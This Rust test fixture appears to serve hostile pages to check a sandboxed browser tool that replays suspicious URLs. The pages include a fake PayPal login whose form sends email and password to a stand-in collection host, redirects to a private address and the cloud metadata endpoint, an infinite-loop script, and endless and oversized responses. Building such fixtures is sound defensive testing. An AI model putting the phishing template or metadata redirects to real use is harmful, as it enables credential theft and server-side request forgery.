//! A loopback test site (axum on `127.0.0.1:0`): a login page behind two redirects,
//! redirects to internal addresses, and hostile pages.

#![allow(dead_code)]

use std::net::SocketAddr;
use std::path::Path;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use axum::body::Body;
use axum::extract::State;
use axum::http::{header, StatusCode};
use axum::response::{Html, IntoResponse, Response};
use axum::routing::get;
use axum::Router;
use ferretwatch_reproduce::{Guard, Limits};

/// The phishing-looking page the redirects end at.
pub const LOGIN: &str = r#"<!doctype html><html><head><title>PayPal - Log in</title></head>
<body><h1>PayPal</h1><p>Your account has been limited. Verify your identity.</p>
<form action="https://collect.example/p.php" method="post">
<input type="email" name="email" placeholder="Email"><input type="password" name="password">
<button>Log In</button></form></body></html>"#;

/// A running site and the hits it received.
pub struct Site {
    pub addr: SocketAddr,
    pub hits: Arc<AtomicU64>,
}

impl Site {
    pub fn url(&self, path: &str) -> url::Url {
        url::Url::parse(&format!("http://{}{path}", self.addr)).unwrap()
    }

    pub fn hits(&self) -> u64 {
        self.hits.load(Ordering::SeqCst)
    }
}

#[derive(Clone)]
struct Ctx {
    hits: Arc<AtomicU64>,
    other: Option<SocketAddr>,
    port: u16,
}

fn redirect(to: String) -> Response {
    (StatusCode::FOUND, [(header::LOCATION, to)]).into_response()
}

async fn count(State(ctx): State<Ctx>, request: axum::extract::Request, next: axum::middleware::Next) -> Response {
    ctx.hits.fetch_add(1, Ordering::SeqCst);
    next.run(request).await
}

/// Starts the site; `other` is a second site the `/to-other-port` page redirects to.
pub async fn site(other: Option<SocketAddr>) -> Site {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let hits = Arc::new(AtomicU64::new(0));
    let ctx = Ctx { hits: hits.clone(), other, port: addr.port() };
    let app =
        Router::new()
            .route("/", get(|| async { Html("<html><body><p>other site</p></body></html>") }))
            .route("/start", get(|| async { redirect("/hop".into()) }))
            .route("/hop", get(|| async { redirect("/login".into()) }))
            .route("/login", get(|| async { Html(LOGIN) }))
            .route("/simple", get(|| async { Html("<html><body><h1>Hello</h1></body></html>") }))
            .route(
                "/to-other-port",
                get(|State(ctx): State<Ctx>| async move {
                    redirect(format!("http://{}/", ctx.other.expect("a second site")))
                }),
            )
            .route("/to-private", get(|| async { redirect("http://10.0.0.1/".into()) }))
            .route("/to-metadata", get(|| async { redirect("http://169.254.169.254/latest/meta-data/".into()) }))
            .route(
                "/to-localhost",
                get(|State(ctx): State<Ctx>| async move {
                    redirect(format!("http://localhost:{}/", ctx.port.wrapping_add(1).max(1)))
                }),
            )
            .route("/spin", get(|| async { Html("<html><body><p>busy</p><script>for(;;){}</script></body></html>") }))
            .route("/endless", get(|| async { endless() }))
            .route("/huge", get(|| async { huge() }))
            .layer(axum::middleware::from_fn_with_state(ctx.clone(), count))
            .with_state(ctx);
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    Site { addr, hits }
}

/// A response that starts and never ends.
fn endless() -> Response {
    let stream = futures_util::stream::unfold(0u64, |n| async move {
        tokio::time::sleep(Duration::from_millis(200)).await;
        Some((Ok::<_, std::io::Error>(bytes::Bytes::from(format!("<p>{n}</p>\n"))), n + 1))
    });
    let head = futures_util::stream::once(async {
        Ok::<_, std::io::Error>(bytes::Bytes::from_static(b"<html><body><h1>Loading</h1>\n"))
    });
    let body = Body::from_stream(futures_util::StreamExt::chain(head, stream));
    ([(header::CONTENT_TYPE, "text/html")], body).into_response()
}

/// A page far larger than any cap.
fn huge() -> Response {
    let chunk = bytes::Bytes::from(vec![b'a'; 64 * 1024]);
    let chunks = futures_util::StreamExt::take(futures_util::stream::repeat(chunk), 16 * 1024);
    let stream = futures_util::StreamExt::map(chunks, Ok::<_, std::io::Error>);
    ([(header::CONTENT_TYPE, "text/html")], Body::from_stream(stream)).into_response()
}

/// Limits for tests: the given cap, the profile under `scratch`.
pub fn limits(seconds: u64, scratch: &Path) -> Limits {
    Limits {
        time: Duration::from_secs(seconds),
        scratch_dir: Some(scratch.to_owned()),
        chromium: std::env::var_os("FERRETWATCH_CHROMIUM").map_or_else(|| "/usr/bin/chromium".into(), Into::into),
        ..Limits::default()
    }
}

/// Loopback allowed on `port` only.
pub fn pinned(port: u16) -> Guard {
    Guard { allow_loopback: true, loopback_ports: vec![port] }
}

/// Asserts that no process names `scratch` and that the profile is gone.
pub fn assert_clean(scratch: &Path) {
    let left = ferretwatch_reproduce::browser::processes_naming(scratch);
    assert!(left.is_empty(), "browser processes survived: {left:?}");
    let entries: Vec<_> = std::fs::read_dir(scratch).unwrap().collect();
    assert!(entries.is_empty(), "the profile was not removed: {entries:?}");
}
